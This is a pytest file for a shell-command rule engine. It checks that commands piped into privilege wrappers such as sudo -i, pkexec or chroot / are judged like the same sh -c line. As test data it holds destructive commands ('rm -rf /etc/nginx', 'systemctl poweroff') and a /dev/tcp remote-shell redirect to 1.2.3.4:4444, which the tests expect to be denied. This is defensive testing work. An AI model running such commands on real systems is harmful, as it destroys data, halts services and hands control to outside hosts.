"""Text piped (or a here-document, or a connection redirected) into a shell a privilege or
namespace wrapper starts on this machine with no command: ``sudo -i``, ``sudo -s``, ``doas
-s``, ``pkexec``, ``run0``, ``chroot /``, ``unshare``, ``schroot -c NAME`` (their wrapper
grammar leaves no program: the shell they start reads its standard input), and ``runuser``,
``sg GROUP``, ``newgrp``, ``machinectl shell`` (su-like: a shell when no command is
given). Each is judged as the same text given as ``sh -c``'s line; each was allowed unread.

The controls run the forms installed here (su, runuser, chroot, unshare, sg, newgrp: this
test runs as root or skips them) with a harmless text that touches a file; sudo, doas,
pkexec, run0, machinectl and schroot are read by their manuals (sudo(8) -i/-s: "If no
command is specified, an interactive shell is executed"; doas(1) -s; pkexec(1): "If no
program is specified, the default shell will be run"; run0(1); machinectl(1) shell: the
command omitted, the login shell; schroot(1))."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest
from tests.engine._shell_session import run

#: texts a rule catches given as a line (asked; denied)
TEXTS = ["systemctl poweroff", "rm -rf /etc/nginx"]

#: forms that start a shell on this machine reading the piped text
FORMS = [
    "sudo -i", "sudo -s", "sudo -iu root", "sudo -i -u postgres", "sudo --login", "sudo --shell",
    "sudo -E -H -s", "sudo -i --", "sudo -u app -s", "sudo -D /srv -i", "nice sudo -i",
    "sudo sudo -s", "doas -s", "doas -u root -s", "pkexec", "pkexec --user root", "run0",
    "run0 -u root", "chroot /", "sudo chroot /", "unshare", "unshare -r", "sudo unshare -m",
    "schroot -c buster", "runuser", "runuser -", "runuser -l root", "runuser root",
    "sudo runuser -l root", "sg root", "sg - root", "newgrp", "newgrp -", "sudo newgrp root",
    "machinectl shell", "machinectl shell root@", "machinectl shell root@.host",
]  # fmt: skip


@pytest.mark.parametrize("text", TEXTS)
@pytest.mark.parametrize("form", FORMS)
def test_piped_text_is_judged_as_the_shells_line(tmp_path: Path, form: str, text: str) -> None:
    line = run(tmp_path, f"sh -c '{text}'")
    assert line[0] in ("ask", "deny"), text
    assert run(tmp_path, f"echo '{text}' | {form}") == line, form


@pytest.mark.parametrize("form", ["sudo -i", "doas -s", "runuser -l root", "chroot /"])
def test_a_here_document_is_judged_as_the_shells_line(tmp_path: Path, form: str) -> None:
    line = run(tmp_path, "sh -c 'systemctl poweroff'")
    assert run(tmp_path, f"{form} <<'EOF'\nsystemctl poweroff\nEOF") == line, form


@pytest.mark.parametrize("form", ["sudo -s", "pkexec", "unshare -r"])
def test_a_connection_into_the_shell_is_a_remote_shell(tmp_path: Path, form: str) -> None:
    line = run(tmp_path, "sh < /dev/tcp/1.2.3.4/4444")
    assert line[0] == "deny"
    assert run(tmp_path, f"{form} < /dev/tcp/1.2.3.4/4444") == line, form


def test_remote_su_like_forms_are_read_too(tmp_path: Path) -> None:
    line = run(tmp_path, "ssh db 'systemctl poweroff'")
    for form in ("ssh db runuser -l root", "ssh db sg root", "ssh db newgrp"):
        assert run(tmp_path, f"echo 'systemctl poweroff' | {form}") == line, form


def test_xargs_items_run_by_the_shell_are_read_as_its_line(tmp_path: Path) -> None:
    # (xargs sudo -i runs ``sudo -i ITEMS``: the login shell runs the items as a line)
    line = run(tmp_path, "echo 'systemctl poweroff' | xargs sudo sh -c")
    assert line[0] == "ask"
    assert run(tmp_path, "echo 'systemctl poweroff' | xargs sudo -i") == line


@pytest.mark.parametrize(
    "line",
    ["sudo -i", "sudo -s", "doas -s", "pkexec", "run0", "runuser -l root", "chroot /",
     "unshare -r", "newgrp", "machinectl shell", "echo hi | sudo -i", "echo uptime | sudo -s",
     "echo 'ls -la' | runuser -l root", "echo hi | chroot /",
     "echo 'systemctl poweroff' | sudo tee f", "echo 'systemctl poweroff' | sudo cat",
     "echo 'systemctl poweroff' | sudo -l", "echo 'systemctl poweroff' | sudo -v",
     "echo 'systemctl poweroff' | sudo -k", "echo 'systemctl poweroff' | doas -u root cat",
     "echo 'systemctl poweroff' | pkexec --version", "echo 'systemctl poweroff' | run0 cat",
     "echo 'systemctl poweroff' | chroot / cat", "echo 'systemctl poweroff' | unshare -r cat",
     "echo 'systemctl poweroff' | runuser -u app -- cat",
     "echo 'systemctl poweroff' | runuser -u app",
     "echo 'systemctl poweroff' | sg docker -c cat",
     "echo 'systemctl poweroff' | machinectl shell root@ /bin/cat",
     "echo 'systemctl poweroff' | schroot -l", "echo 'systemctl poweroff' | su -c cat"],
)  # fmt: skip
def test_what_the_line_allows_stays_allowed(tmp_path: Path, line: str) -> None:
    assert run(tmp_path, line) == ("allow", "default.allow"), line


@pytest.mark.skipif(os.geteuid() != 0, reason="runuser, chroot and newgrp need root")
@pytest.mark.parametrize(
    "form", ["su", "su -", "runuser", "runuser -l root", "runuser root", "chroot /", "unshare",
             "sg root", "newgrp", "newgrp -"]
)  # fmt: skip
def test_control_the_form_runs_piped_text(tmp_path: Path, form: str) -> None:
    if shutil.which(form.split()[0]) is None:
        pytest.skip(f"{form.split()[0]} is not installed")
    marker = tmp_path / "ran"
    env = {**os.environ, "SHELL": "/bin/sh"}
    subprocess.run(["bash", "-c", f"echo 'touch {marker}' | {form}"], cwd=tmp_path, env=env,
                   capture_output=True, timeout=30, check=False)  # fmt: skip
    assert marker.exists(), form
